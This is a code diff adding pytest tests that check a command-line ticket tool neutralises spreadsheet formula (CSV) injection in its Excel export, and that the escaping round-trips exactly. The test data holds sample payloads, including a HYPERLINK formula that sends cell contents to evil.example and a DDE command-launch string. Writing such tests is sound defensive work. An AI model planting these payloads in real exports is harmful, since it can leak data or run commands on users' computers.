@@ -128,6 +128,52 @@ def test_excel_export_is_utf8_with_bom_and_crlf(tsk, tmp_path, filled):
     assert tsk(["export", "--excel", "--format", "json"]).exit_code != 0
 
 
+# Cells a spreadsheet would run (OWASP CSV injection), and one that looks neutralised already.
+FORMULAS = {"summary": '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")', "demand": "+cmd|' /C calc'!A0",
+            "customer_name": "@SUM(1+1)", "unit": "-2+3", "subject_staff": "'=已是引号"}
+
+
+@pytest.fixture
+def formulas(tsk):
+    options = [f"--{key.replace('_', '-').replace('customer-name', 'customer')}={value}" for key, value in FORMULAS.items()]
+    run = tsk(["add", *BASE, *options, "--phone", "+8613812345678"])
+    assert run.exit_code == 0, run.stderr
+    return run.stdout.split()[0]
+
+
+def excel_rows(data: bytes) -> list[dict]:
+    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+
+
+@pytest.mark.parametrize("pii", [[], ["--show-pii"]], ids=["masked", "unmasked"])
+def test_excel_export_neutralises_every_cell_a_spreadsheet_would_run(tsk, tmp_path, formulas, pii):
+    (row,) = excel_rows(export_bytes(tsk, tmp_path, "--excel", *pii))
+    for key, value in FORMULAS.items():
+        assert row[key] == "'" + value, key
+    assert row["customer_phone"] == ("'+8613812345678" if pii else "'+86*******5678")  # a phone is text too
+    assert row["ref"] == formulas and row["received_at"].startswith("2026-08-03")  # the rest as they were
+    (plain,) = excel_rows(export_bytes(tsk, tmp_path, *pii, name="plain"))  # for scripts: verbatim
+    assert all(plain[key] == value for key, value in FORMULAS.items())
+
+
+def test_an_excel_export_imports_back_to_the_same_text(tsk, tmp_path, formulas):
+    first = export_bytes(tsk, tmp_path, "--excel", "--show-pii", name="first")
+    other = str(tmp_path / "other.db")
+    assert tsk(["--db", other, "import", str(tmp_path / "first")]).exit_code == 0
+    assert json.loads(tsk(["--db", other, "export", "--show-pii", "-f", "jsonl"]).stdout) == \
+        json.loads(tsk(["export", "--show-pii", "-f", "jsonl"]).stdout)
+    assert export_bytes(tsk, tmp_path, "--excel", "--show-pii", name="second") == first
+
+
+@pytest.mark.parametrize("text", ["=1", "+", "-", "@x", "\tx", "\rx", "'", "'=1", "''=1", "'x", "x=1", "", "张三"])
+def test_neutralising_is_undone_exactly(text):
+    from tsk.render.output import FORMULA_START, for_spreadsheet, from_spreadsheet
+
+    shown = for_spreadsheet(text)
+    assert from_spreadsheet(shown) == text
+    assert not shown.startswith(FORMULA_START)
+
+
 def test_unmasked_export_is_recorded_once_as_an_audit_row(tsk, ledger_path, filled):
     events_before = count(ledger_path, "event")
     run = tsk(["--as", "auditor", "export", "--show-pii", "--status", "closed"])
